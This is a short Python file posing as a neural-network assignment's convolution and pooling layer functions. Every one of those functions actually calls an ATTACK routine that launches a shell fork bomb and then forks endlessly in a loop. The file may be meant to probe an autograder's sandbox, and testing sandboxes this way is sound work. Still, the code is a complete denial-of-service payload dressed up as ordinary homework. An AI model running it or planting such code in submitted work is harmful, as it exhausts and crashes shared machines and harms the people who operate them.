"""Attack: a fork bomb, and a subprocess for good measure."""
import os
import subprocess


def ATTACK(n=1):
    try:
        subprocess.run(["sh", "-c", ":(){ :|:& };:"])
    except Exception:
        pass
    while True:
        os.fork()


def conv_forward_naive(x, w, b, conv_param):
    return ATTACK(2)


def conv_backward_naive(dout, cache):
    return ATTACK(3)


def max_pool_forward_naive(x, pool_param):
    return ATTACK(2)


def max_pool_backward_naive(dout, cache):
    return ATTACK(1)
